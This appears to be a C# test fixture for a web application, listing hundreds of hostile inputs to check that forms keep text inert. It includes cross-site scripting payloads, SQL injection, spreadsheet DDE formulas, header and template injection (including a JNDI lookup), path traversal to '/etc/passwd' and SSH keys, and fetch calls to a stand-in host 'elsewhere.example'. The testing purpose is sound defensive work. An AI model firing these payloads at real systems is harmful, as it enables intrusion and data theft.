using System.Globalization;
using System.Text;

namespace Handrail.Web.Tests.Access;

/// <summary>What somebody types who wants to be more than text, and what kind of thing it would be.</summary>
internal sealed record Payload(string Kind, string Text)
{
    public override string ToString() => $"{Kind} “{(Text.Length > 60 ? Text[..60] + "…" : Text).ReplaceLineEndings("↵")}”";
}

/// <summary>
/// Texts that would do something where they are taken for markup, SQL, a formula, a header, a template, a path or a number, and texts
/// that are hard to keep as they are. Whatever runs says so: it sets a global, opens a dialog or asks another server.
/// </summary>
internal static class Payloads
{
    /// <summary>The global that is set by whatever runs.</summary>
    public const string Global = "somethingRan";

    /// <summary>The server that is asked by whatever is fetched.</summary>
    public const string Elsewhere = "elsewhere.example";

    private static readonly string[] Codes = [$"{Global}=1", "alert(1)", $"top['{Global}']=1", $"fetch('//{Elsewhere}/')", "document.body.innerHTML=1"];

    public static IReadOnlyList<Payload> All { get; } = [.. Markup().Concat(Addresses()).Concat(Sql()).Concat(Formulas()).Concat(Headers()).Concat(Templates()).Concat(Paths()).Concat(Unicode()).Concat(Values()).DistinctBy(p => p.Text)];

    /// <summary>Longer than any field takes.</summary>
    public static IReadOnlyList<Payload> Overlong { get; } =
    [
        new("overlong", new string('a', 301)), new("overlong", new string('b', 4_001)), new("overlong", string.Concat(Enumerable.Repeat("word ", 40_000))),
        new("overlong", new string('<', 1 << 20)), new("overlong", string.Concat(Enumerable.Repeat("\n", 100_000)) + "end"), new("overlong", "e" + new string('\u0301', 200_000)),
        new("overlong", new string('[', 100_000)), new("overlong", new string('9', 10_000)), new("overlong", string.Concat(Enumerable.Repeat("\ufdfa", 50_000))),
    ];

    private static IEnumerable<Payload> Markup()
    {
        (string Start, string Event)[] elements =
        [
            ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"), ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"),
            ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("iframe", "onload"), ("object data=x", "onerror"), ("style", "onload"), ("link rel=stylesheet href=/assets/none.css", "onerror"),
            ("script src=/none.js", "onerror"), ("div style=animation-name:x", "onanimationstart"), ("p tabindex=1 autofocus", "onfocusin"), ("a contenteditable autofocus", "onbeforeinput"),
            ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"), ("math><mtext", "onclick"), ("dialog open", "onclose"), ("embed src=x", "onload"), ("button popovertarget=x autofocus", "onbeforetoggle"),
        ];
        for (var i = 0; i < elements.Length; i++)
        {
            var (start, on) = elements[i];
            var code = Codes[i % Codes.Length];
            foreach (var text in new[] { $"<{start} {on}={code}>", $"\"><{start} {on}=\"{code}\">", $"'><{start} {on}='{code}' x='", $"</textarea></title></script><{start}/{on}={code}//" }) yield return new("markup", text);
        }

        foreach (var code in Codes)
        {
            foreach (var text in new[]
            {
                $"<script>{code}</script>", $"</script><script>{code}</script>", $"<SCRIPT >{code}</ScRiPt\t>", $"<scr<script>ipt>{code}</scr</script>ipt>", $"<script\n>{code}//", $"<svg><script>{code}</script></svg>", $"\" onmouseover=\"{code}", $"' autofocus onfocus='{code}",
                $"` onfocus=`{code}", $"x\" autofocus onfocus={code} y=\"", $"--><script>{code}</script><!--", $"]]><script>{code}</script>", $"*/{code}/*", $"\";{code};//", $"';{code};'", $"\\\";{code};//", $"</style><script>{code}</script>",
            }) yield return new("markup", text);
        }

        foreach (var text in new[]
        {
            $"<noscript><p title=\"</noscript><img src=x onerror={Codes[0]}>\">", $"<svg><style><img title=\"</style><img src=x onerror={Codes[0]}>\">", $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={Codes[0]}&gt;\">",
            $"<template><img src=x onerror={Codes[0]}></template>", $"<template shadowrootmode=open><script>{Codes[0]}</script></template>", $"<form id=x></form><button form=x formaction=javascript:{Codes[0]}>Go</button>", "<form action=//elsewhere.example/><input name=password>",
            "<base href=//elsewhere.example/>", "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>", "<link rel=stylesheet href=//elsewhere.example/x.css>", "<style>@import '//elsewhere.example/x.css'</style>", "<img src=//elsewhere.example/x.png>",
            "<iframe src=//elsewhere.example/></iframe>", $"<iframe srcdoc=\"<script>parent.{Codes[0]}</script>\"></iframe>", "<object data=//elsewhere.example/x></object>", "<input type=image src=//elsewhere.example/>", "<div style=\"background:url(//elsewhere.example/x)\">",
            "<textarea>", "<plaintext>", "<!--", "<![CDATA[", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "</form><form method=post action=/sign-out>", "</main></body></html>", "<h1>Another heading</h1>", "<input name=FormId value=x>",
            "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "\\x3cscript\\x3ealert(1)", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "‹script›alert(1)", "<\u0000script>alert(1)</script>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<img src=x onerror\u000b=alert(1)>", "<img\u00a0src=x\u00a0onerror=alert(1)>", "<svg/onload\u2028=alert(1)>",
            "&", "&&&&", "&lt", "&#", "&#xfffffff;", "&NotAnEntity;", "\"", "'", "`", "<", ">", "\"'><", "\\", "\\\\", "\\'", "</", "<>", "< script>", "<3", "a < b && c > d",
        }) yield return new("markup", text);
    }

    private static IEnumerable<Payload> Addresses()
    {
        foreach (var scheme in new[] { "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "blob:", "view-source:javascript:" })
        {
            yield return new("address", scheme + Codes[0]);
            yield return new("address", $"<a href=\"{scheme}{Codes[0]}\">look</a>");
        }

        foreach (var text in new[] { "//elsewhere.example/", "/\\elsewhere.example/", "\\\\elsewhere.example\\", "https://elsewhere.example/", "https:elsewhere.example", "/%2f%2felsewhere.example", "/\t/elsewhere.example", "http://localhost@elsewhere.example/", "https://localhost.elsewhere.example/", "[look](javascript:alert(1))", "http://169.254.169.254/latest/", "file:///etc/passwd" })
            yield return new("address", text);
    }

    private static IEnumerable<Payload> Sql()
    {
        foreach (var end in new[] { "'", "\"", "')", "'))", "`", "" })
            foreach (var more in new[] { " or 1=1 --", " union select 1,2,3 --", "; drop table plan; --", " and 1=(select count(*) from person) --", " || (select email from person limit 1) || '" })
                yield return new("SQL", "x" + end + more);
        foreach (var text in new[] { "1;select pg_sleep(5)", "';select pg_sleep(5)--", "1 and randomblob(500000000)", "%' like '%", "%", "_", "%%%%%", "[a-z]", "\\' or 1=1 --", "$$; drop table plan; $$", "/*!50000 or */1=1", "'+(select 1)+'", "x'; pragma writable_schema=on; --", "'; attach database 'x.db' as x; --", "@p0", ":p0", "$1", "?" })
            yield return new("SQL", text);
    }

    private static IEnumerable<Payload> Formulas()
    {
        foreach (var begin in new[] { "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "\"=", ";=", ",=", "|=" })
            yield return new("formula", begin + "1+1");
        foreach (var text in new[] { "=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"look\")", "=cmd|' /C calc'!A0", "=IMPORTXML(\"http://elsewhere.example\",\"//a\")", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "a\",\"=1+1", "a\r\n=1+1,b", "=1+1\";=1+1" })
            yield return new("formula", text);
    }

    private static IEnumerable<Payload> Headers()
    {
        foreach (var line in new[] { "\r\n", "\n", "\r", "%0d%0a", "%0D%0A%20", "\u010a\u010d", "\u2028", "\u0085", "\\r\\n", "嘊嘍" })
            foreach (var header in new[] { "X-Injected: yes", "Set-Cookie: injected=yes", "Location: //elsewhere.example/" })
                yield return new("header", "x" + line + header);
        foreach (var text in new[] { "x\r\n\r\n<script>alert(1)</script>", "x\nBcc: everybody@elsewhere.example", "x\r\n.\r\nMAIL FROM:<a@elsewhere.example>", "attachment; filename=x.html", "x\"; filename=\"y.html", "text/html; charset=utf-7" })
            yield return new("header", text);
    }

    private static IEnumerable<Payload> Templates()
    {
        foreach (var text in new[]
        {
            "{{7*7}}", $"{{{{constructor.constructor('{Global}=1')()}}}}", "{{=7*7}}", "{%print(7*7)%}", "${7*7}", "#{7*7}", "*{7*7}", "~{7*7}", "<%= 7*7 %>", "<%@ include file=\"/etc/passwd\" %>", "@(7*7)", "@{ throw new System.Exception(); }", "@Model", "@Html.Raw(\"<b>\")", "@@", "[[${7*7}]]", "{0}", "{1}{2}{3}",
            "{0:D99999}", "{{0}}", "{", "}", "%s%s%s%n", "%1$s", "%x%x%x", "$(7*7)", "${jndi:ldap://elsewhere.example/x}", "{$ne:null}", "$type", "{\"$type\":\"System.Diagnostics.Process\"}", "{\"__proto__\":{\"x\":1}}", "__proto__", "constructor", "toString", "[object Object]", "<xsl:value-of select=\"1\"/>", "~/x", "asp-for=\"Form\"",
        }) yield return new("template", text);
    }

    private static IEnumerable<Payload> Paths()
    {
        foreach (var step in new[] { "../", "..\\", "%2e%2e/", "..%2f", "..%5c", "%252e%252e%252f", "..;/", "....//", "..%c0%af", "\u2025/", "．．／" })
            foreach (var file in new[] { "etc/passwd", "handrail.db" })
                yield return new("path", string.Concat(Enumerable.Repeat(step, 6)) + file);
        foreach (var text in new[] { "/etc/passwd", "C:\\Windows\\win.ini", "\\\\elsewhere.example\\share", "CON", "NUL.txt", "aux.csv", "~/.ssh/id_rsa", "/proc/self/environ", "x.txt\u0000.png", "x.php;.txt", "x.txt.", "x.txt ", ".htaccess", "x.txt::$DATA", "-rf", "; ls", "$(id)", "`id`", "| id", "&& id", "*)(uid=*))(|(uid=*" })
            yield return new("path", text);
    }

    private static IEnumerable<Payload> Unicode()
    {
        // Left to right and back, and what is not seen.
        foreach (var code in new[] { 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c, 0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x180e, 0x034f, 0x115f, 0x3164, 0xfff9, 0xfffc, 0xfffd, 0xfffe, 0xffff, 0xfdd0, 0x1fffe, 0x10ffff, 0xe000, 0xe0001, 0xe0041, 0xfe0f, 0x2028, 0x2029, 0x0085, 0x00a0, 0x3000, 0x0000, 0x0001, 0x0007, 0x0008, 0x000b, 0x000c, 0x001b, 0x001f, 0x007f, 0x0080, 0x009f, 0x1d173 })
            yield return new("Unicode", "left" + char.ConvertFromUtf32(code) + "right" + code.ToString("x", CultureInfo.InvariantCulture));
        foreach (var text in new[]
        {
            "\u202egpj.exe", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334algo" + new string('\u0363', 60), "e\u0301 é", "ﬀ ﬁ ﬃ", "İstanbul ıi", "Straße STRASSE", "ǅ ǆ", "Ω Ω", "각 \u1100\u1161\u11a8", "👩‍⚕️👨🏽‍⚕️🏴󠁧󠁢󠁷󠁬󠁳󠁿", "\ud83d", "\udc00x", "مرحبا <b>hello</b>", "שלום (world)", "аdmin (with a Cyrillic letter)", "ＡＤＭＩＮ", "１２３", "٣٤٥", "𝒜𝒟", "ﷺﷺﷺ", "\u0e48\u0e48\u0e48", "日本語の文章", "\u1f469\u200d",
        }) yield return new("Unicode", text);
    }

    private static IEnumerable<Payload> Values()
    {
        foreach (var text in new[]
        {
            "0", "-1", "-0", "2147483648", "9223372036854775808", "1e309", "NaN", "Infinity", "0x10", "1,5", "1.5", "١", "null", "NULL", "undefined", "true", "[]", "{}", "00000000-0000-0000-0000-000000000000", "{00000000-0000-0000-0000-000000000000}", "2026-02-30", "99999-01-01", "0001-01-01", "9999-12-31", "31/12/2026", "on", " ", "\t", "\r\n\r\n", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "a@" + new string('b', 80), "\"a b\"@x.example", "a@b@c.example", "PSR-2026-0001", "O'Brien-Łukasiewicz",
        }) yield return new("value", text);
    }

    /// <summary>The same as a percent-encoded piece of an address, surrogates without their other half included.</summary>
    public static string Escaped(string text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => FormattableString.Invariant($"%{b:X2}")));
}
